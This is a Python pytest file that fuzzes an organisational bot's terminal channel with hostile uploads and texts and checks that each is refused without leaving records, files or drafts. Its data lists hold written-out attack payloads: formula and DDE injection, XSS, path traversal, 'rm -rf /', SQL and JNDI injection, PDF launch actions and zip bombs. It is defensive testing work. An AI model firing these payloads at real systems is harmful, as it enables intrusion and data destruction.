"""Five hundred hostile files and texts, through the whole path of the terminal's channel.

They leave no trace but a refusal: no file, no row, no draft; and the process stays small.
"""

import asyncio
import random
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path

import psutil
import pytest
import sample_files as make
from sqlalchemy import text

from bot.channels.terminal import NAME, read, written
from bot.database_thread import DatabaseThread
from bot.files.examiner import examined
from bot.files.local import LocalFiles
from bot.files.receiving import Receiver
from bot.files.store import FileStore
from bot.intake import Intake
from handlers.message import FileFault, Message, Reaction, Turn
from handlers.serve import handle_inbox
from plans.clock import Clock
from storage.database import Database
from storage.records import Role
from storage.unit_of_work import UnitOfWork

NOW = datetime(2024, 5, 8, 2, 0, tzinfo=UTC)
MOST_MEMORY = 300 * 1024 * 1024
REFUSALS = {Reaction.REFUSE, Reaction.CHAT, Reaction.DECLINE, Reaction.CLARIFY}
NAMES = [
    "bao-cao.pdf",
    "bien-ban.docx",
    "anh.jpg",
    "../../etc/passwd",
    "..\\..\\x.pdf",
    "a\x01b.pdf",
    "x" * 240 + ".pdf",
    "bao-cao\u202efdp.exe",
    "CON",
    "=HYPERLINK(1).xlsx",
    "<b>a<b>.docx",
    "-rf.pdf",
]
TEXTS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.vn?a="&A1;"bấm")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-SUM(1)|x!A",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<!DOCTYPE html><html><body>",
    "<iframe src=javascript:alert(1)>",
    "tài liệu mật",
    "Gửi đồng chí công văn MẬT số 12",
    "văn bản tối mật số 3-CV/TU",
    "đóng dấu TUYỆT MẬT",
    "\x00\x1b[2J\x07",
    "\u202e\u2066\u200b",
    "../../../../etc/passwd",
    "; rm -rf / #",
    "' OR 1=1 --",
    "{{7*7}} ${jndi:ldap://x}",
    "a" * 5000,
    "đã nộp báo cáo cam kết " * 300,
    "ق" * 900,
    "Z\u0351\u036b\u0343" * 300,
]


class OneClock:
    def now(self) -> datetime:
        return NOW


def hostile_contents(chance: random.Random) -> Iterator[bytes]:
    """Give wrong types, bombs, programs, stamps, and mutated and cut files."""
    yield from (
        b"<html><script>alert(1)</script></html>",
        b"MZ\x90\0" + b"\0" * 5000,
        b"\x7fELF" + b"\0" * 5000,
        b"#!/bin/sh\nrm -rf /\n",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000,
        b"\0" * 4096,
        b"GIF89a" + b"\0" * 100,
        b"RIFF\x10\0\0\0WEBP",
        b"%PDF-1.7\n%%EOF\nstartxref",
        b"PK\x03\x04" + b"\0" * 400,
        b"=cmd|' /C calc'!A0\n",
        make.JPEG + b"<html><script>",
        make.JPEG + make.archive({"a.exe": b"MZ"}),
        make.png(60_000, 60_000, b""),
        make.png(4, 3, b"\0" * 30_000_000),
        make.zip_bomb(256 << 20),
        make.lying_bomb(),
        make.nested_bomb(),
        make.deep_archive(),
        make.docx("x", more={f"{at}.xml": "<a/>" for at in range(1001)}),
        make.docx("x", more={"word/vbaProject.bin": b"x"}),
        make.docx("x", more={"../../etc/passwd": b"x"}),
        make.docx("DDEAUTO c:\\cmd.exe"),
        make.xlsx("x", formula="cmd|'/C calc'!A0"),
        make.pdf("x", catalogue="/OpenAction << /S /JavaScript /JS (x) >>"),
        make.pdf("x", catalogue="/OpenAction << /S /Launch /F (cmd.exe) >>"),
        b"%PDF-" + b"\0" * (30 << 20),
    )
    for stamp in ("MẬT", "TỐI MẬT", "TUYỆT MẬT"):
        yield from (make.docx("a", stamp), make.xlsx("a", stamp), make.pdf(f"a\n{stamp}"))
    while True:
        whole = chance.choice([make.JPEG, make.png(), make.docx("a"), make.xlsx("a")])
        yield whole[: chance.randrange(20, len(whole) - 13)]


class Channel:
    """The terminal's way in, from a typed line to the rows that it leaves."""

    def __init__(self, database: Database, folder: Path) -> None:
        self.store = folder / "evidence"
        self.turns: list[Turn] = []
        self._thread = DatabaseThread(database)
        clock = OneClock()
        receiver = Receiver(FileStore(self.store), {NAME: LocalFiles()}, clock)
        self._intake = Intake(
            self._thread, read, self._serve, clock, lambda: None, receiver.receive
        )
        self._number = 0

    def _serve(self, message: Message, uow: UnitOfWork, clock: Clock) -> Turn:
        turn = handle_inbox(message, uow, clock)
        self.turns.append(turn)
        return turn

    def hear(self, typed: str, file: Path | None = None) -> Turn:
        async def run() -> None:
            self._number += 1
            payload = written(typed, None, str(file) if file else "")
            await self._thread.run(
                lambda uow: uow.inbox.store(NAME, str(self._number), "lan", payload, NOW)
            )
            await self._intake.drain()

        before = len(self.turns)
        asyncio.run(run())
        assert len(self.turns) == before + 1, "the message was not answered"
        return self.turns[-1]

    def close(self) -> None:
        self._thread.close()


@pytest.fixture
def channel(samples: Database, tmp_path: Path) -> Iterator[Channel]:
    with samples.unit_of_work() as uow:
        home = uow.organisations.by_code("duk-cantho")
        assert home is not None
        unit = uow.units.by_code(home.id, "chi-bo")
        assert unit is not None
        person = uow.people.add("Trần Thị Lan")
        uow.people.give_post(person.id, unit.id, Role.SECRETARY, NOW.date())
        uow.people.link(person.id, NAME, "lan", NOW)
        uow.commit()
    opened = Channel(samples, tmp_path)
    yield opened
    opened.close()


@contextmanager
def memory_watched() -> Iterator[list[int]]:
    """Measure the process again and again; its children have limits of their own."""
    process = psutil.Process()
    seen, ended = [process.memory_info().rss], threading.Event()

    def watch() -> None:
        while not ended.wait(0.02):
            seen.append(process.memory_info().rss)

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        yield seen
    finally:
        ended.set()
        watcher.join()


def bare() -> int:
    """Return the bytes of a process that has imported what serves, without the tests beside it."""
    code = "import bot.serving, psutil; print(psutil.Process().memory_info().rss)"
    return int(subprocess.check_output([sys.executable, "-c", code], text=True))


def traces(database: Database) -> dict[str, int]:
    """Count what is on record, and drafts that hold anything handed in."""
    tables = ("events", "evidence")
    with database.engine.connect() as connection:
        counts = {
            table: connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()
            for table in tables
        }
        drafts = connection.execute(text("SELECT data FROM conversations")).scalars().all()
    return {**counts, "drafts": sum("sha256" in str(one) for one in drafts)}


@pytest.mark.slow
@pytest.mark.timeout(900)
@pytest.mark.parametrize("database_kind", ["sqlite"], indirect=True)
def test_five_hundred_hostile_uploads_and_texts_leave_nothing_but_a_refusal(
    channel: Channel, samples: Database, tmp_path: Path
) -> None:
    chance = random.Random(4)
    contents = hostile_contents(chance)
    before = traces(samples)
    sent = tmp_path / "sent"
    sent.mkdir()
    with memory_watched() as memory:
        for number in range(400):
            file = sent / str(number)
            file.write_bytes(next(contents))
            named = file.with_name(chance.choice(NAMES).replace("/", "\\")[-200:])
            file.rename(named)
            turn = channel.hear("", named)
            assert turn.reaction is Reaction.REFUSE, (named.name, turn)
            named.unlink()
        for number in range(100):
            turn = channel.hear(TEXTS[number % len(TEXTS)])
            assert turn.reaction in REFUSALS, turn
    assert traces(samples) == before
    assert [one for one in channel.store.rglob("*") if one.is_file()] == []
    assert list(sent.iterdir()) == []
    grown = max(memory) - memory[0]
    assert bare() + grown < MOST_MEMORY, f"{grown >> 20} MiB more than at first"


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_two_hundred_mutated_pdfs_end_a_child_at_worst(tmp_path: Path) -> None:
    chance = random.Random(42)
    whole = make.pdf("trang một " * 40, "trang hai " * 40, "trang ba")
    for number in range(200):
        content = bytearray(whole)
        for _ in range(chance.randrange(1, 60)):
            content[chance.randrange(9, len(content) - 7)] = chance.randrange(256)
        path = tmp_path / str(number)
        path.write_bytes(content)
        begun = time.monotonic()
        verdict = examined(path)
        assert time.monotonic() - begun < 60
        assert (verdict.kind is None) != (verdict.fault is None)
        assert verdict.fault in {None, FileFault.BROKEN, FileFault.LOCKED, FileFault.SLOW}


@pytest.mark.parametrize("typed", TEXTS)
def test_a_hostile_text_is_answered_and_leaves_nothing(
    channel: Channel, samples: Database, typed: str
) -> None:
    before = traces(samples)
    begun = time.process_time()
    assert channel.hear(typed).reaction in REFUSALS
    assert time.process_time() - begun < 5
    channel.hear("đúng")
    assert traces(samples) == before
